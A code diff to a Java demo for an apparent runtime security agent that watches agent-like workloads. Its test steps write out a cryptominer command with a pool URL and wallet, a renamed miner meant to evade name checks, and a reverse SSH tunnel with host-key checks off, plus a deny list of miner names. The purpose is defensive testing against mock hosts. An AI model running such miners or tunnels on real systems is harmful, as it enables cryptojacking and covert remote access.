@@ -43,7 +43,9 @@ public final class Demo {
     private static final String SYSTEM_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
 
     /** What a step must come to; {@code rule} null: no violation at all. */
+    /** exitStatus: the exit status, or ANY_FAILURE where a kill and the program's own exit race (137 or its code). */
     record Expect(int exitStatus, String rule, boolean blocked, MockServer server, int serverConnections) {
+        static final int ANY_FAILURE = -1;
     }
 
     record Step(String title, List<String> argv, Expect expect) {
@@ -126,8 +128,9 @@ public final class Demo {
             Runtime.getRuntime().addShutdownHook(cleanup);
 
             out.println("agentguard demo: an agent-like workload in cgroup " + cgroup + ", watched by an agent of its own");
-            out.println("  policy: egress only to the model registry " + REGISTRY + ", GPU devices but no compute"
-                    + " context, miner programs denied by name; " + agent.ruleStatus().rules() + " rules");
+            out.println("  policy: egress (tunnels and shells included) only to the model registry " + REGISTRY
+                    + ", GPU devices but no compute context, miner programs denied by name; " + agent.ruleStatus().rules()
+                    + " rules");
             out.println("  mock hosts: mining pool " + pool.address() + ", sshd " + sshd.address() + ", model registry "
                     + registry.address() + "; collector " + collector.address());
             out.println("  hooks: " + agent.hooks());
@@ -143,16 +146,18 @@ public final class Demo {
                             new Expect(137, "Miner binary started", true, pool, 0)),
                     new Step("the same miner renamed trainer-sidecar: its name passes, its pool URL and connection do not",
                             List.of(renamed.toString(), "-o", stratum, "-u", "4AdemoWallet", "-a", "rx/0"),
-                            new Expect(1, "Miner arguments in command line", true, pool, 0)),
+                            new Expect(Expect.ANY_FAILURE, "Miner arguments in command line", true, pool, 0)),
                     new Step("a reverse SSH tunnel to an outside sshd (ssh -R)",
                             List.of(ssh(), "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
                                     "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "-N",
                                     "-R", "8022:127.0.0.1:22", "-p", String.valueOf(SSHD_PORT), "agent@" + SSHD),
-                            new Expect(255, "SSH port forwarding or proxy options", true, sshd, 0)),
+                            new Expect(Expect.ANY_FAILURE,
+                                    "SSH forwarding or tunnel tool to a destination policy does not explicitly allow", true,
+                                    sshd, 0)),
                     new Step("a GPU compute context (CUDA driver ioctls replayed on stand-in devices)",
                             List.of(nativeDir.resolve("nvreplay").toString(), "--ctl", devices.resolve("nvidiactl").toString(),
                                     "--gpu", devices.resolve("nvidia0").toString(), "--uvm", devices.resolve("nvidia-uvm").toString()),
-                            new Expect(137, "GPU compute context by unsanctioned process", true, null, 0)));
+                            new Expect(137, "GPU compute context without a compute grant", true, null, 0)));
 
             List<String> failures = new ArrayList<>();
             long violations = 0;
@@ -224,7 +229,7 @@ public final class Demo {
                   heartbeat_ms: 1000
                 policies:
                   default:
-                    egress: {default: deny, allow: [%s/32]}
+                    egress: {default: deny, allow: [%s/32], tunnels: deny, shells: deny}
                     gpu: {devices: all, compute: false}
                     exec: {deny: [xmrig, xmrig-cuda, t-rex, lolMiner, nbminer, gminer, ethminer]}
                 """.formatted(cgroup, ws.resolve("run"), devices.resolve("nvidiactl"), devices.resolve("nvidia0"),
@@ -284,7 +289,7 @@ public final class Demo {
 
     private static List<String> check(Expect expect, int exit, Tally tally, int arrived) {
         List<String> wrong = new ArrayList<>();
-        if (exit != expect.exitStatus()) {
+        if (expect.exitStatus() == Expect.ANY_FAILURE ? exit == 0 : exit != expect.exitStatus()) {
             wrong.add("exit status " + exit + ", expected " + expect.exitStatus());
         }
         if (expect.rule() == null && !tally.rules.isEmpty()) {
